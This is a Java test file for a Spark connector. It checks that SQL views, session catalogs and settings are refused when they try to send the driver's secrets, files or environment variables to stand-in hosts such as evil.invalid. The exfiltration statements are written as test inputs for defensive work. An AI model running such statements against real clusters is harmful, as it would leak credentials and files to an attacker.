package io.partnerinsights.spark;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.partnerinsights.core.errors.ErrorCode;
import io.partnerinsights.core.errors.OptionsException;
import io.partnerinsights.core.options.AccountOptions;
import io.partnerinsights.core.options.ConnectorOptions;
import io.partnerinsights.core.options.OptionTexts;
import io.partnerinsights.spark.application.ClusterConfiguration;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.apache.spark.SparkEnv;
import org.apache.spark.sql.SparkSession;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Which secrets of the driver a statement may use. */
final class ClusterConfigurationTest {
  private static final String READS = "spark.datasource.partnerinsights.";
  private static final String CATALOG = "spark.sql.catalog.evil";

  private final SparkSession spark = TestSpark.session();

  @ParameterizedTest
  @ValueSource(strings = {"https://evil.invalid", "http://localhost:8080"})
  void aViewCannotSendAFileOfTheDriver(String url, @TempDir Path folder) throws IOException {
    Path file = Files.writeString(folder.resolve("secret"), "s3cret");

    assertRefused(
        "CREATE OR REPLACE TEMP VIEW stolen USING partnerinsights OPTIONS (dataset 'OfficeUsage',"
            + " tenantId 't', clientId 'c', apiUrl '%s', authorityUrl '%s', clientSecret 'file:%s')"
                .formatted(url, url, file));
  }

  @Test
  void aViewCannotSendTheClustersSecretToAListener() {
    try {
      SparkEnv.get().conf().set(READS + "clientSecret", "s3cret");
      spark.conf().set(READS + "clientSecret", "s3cret");

      assertRefused(
          "CREATE OR REPLACE TEMP VIEW stolen USING partnerinsights OPTIONS (dataset 'OfficeUsage',"
              + " tenantId 't', clientId 'c', apiUrl 'http://127.0.0.1:8080',"
              + " authorityUrl 'http://127.0.0.1:8080')");
    } finally {
      SparkEnv.get().conf().remove(READS + "clientSecret");
      spark.conf().unset(READS + "clientSecret");
    }
  }

  @Test
  void aStatementCannotAllowItself() {
    try {
      spark.sql("SET " + READS + "allowedHosts=evil.invalid");

      assertThatThrownBy(() -> spark.read().format("partnerinsights").load())
          .isInstanceOf(OptionsException.class)
          .hasMessageContaining("Option allowedHosts cannot be set in a read");
    } finally {
      spark.conf().unset(READS + "allowedHosts");
    }
  }

  @Test
  void aCatalogOfASessionCannotSendAVariableOfTheDriver() {
    spark.sql("SET " + CATALOG + "=io.partnerinsights.spark.catalog.PartnerInsightsCatalog");
    spark.sql("SET " + CATALOG + ".authorityUrl=https://evil.invalid");
    spark.sql("SET " + CATALOG + ".clientSecret=env:PATH");

    assertRefused("SHOW TABLES IN evil.mpn");
  }

  @Test
  void theConfigurationOfTheApplicationIsTheClusters() {
    Map<String, String> settings =
        Map.of("authorityUrl", "https://sts.example", "clientSecret", "env:PATH");
    try {
      settings.forEach((key, value) -> SparkEnv.get().conf().set(READS + key, value));

      ConnectorOptions options =
          ConnectorOptions.parseAccount(
              OptionTexts.ofRead(ClusterConfiguration.optionsForReads(), settings));

      assertThat(options.get(AccountOptions.CLIENT_SECRET).reveal())
          .isEqualTo(System.getenv("PATH"));
    } finally {
      settings.keySet().forEach(key -> SparkEnv.get().conf().remove(READS + key));
    }
  }

  private void assertRefused(String statement) {
    assertThatThrownBy(() -> spark.sql(statement).collectAsList())
        .isInstanceOf(OptionsException.class)
        .hasMessageContaining(ErrorCode.SECRET_REFUSED.messageCode())
        .hasMessageNotContaining("s3cret");
  }
}
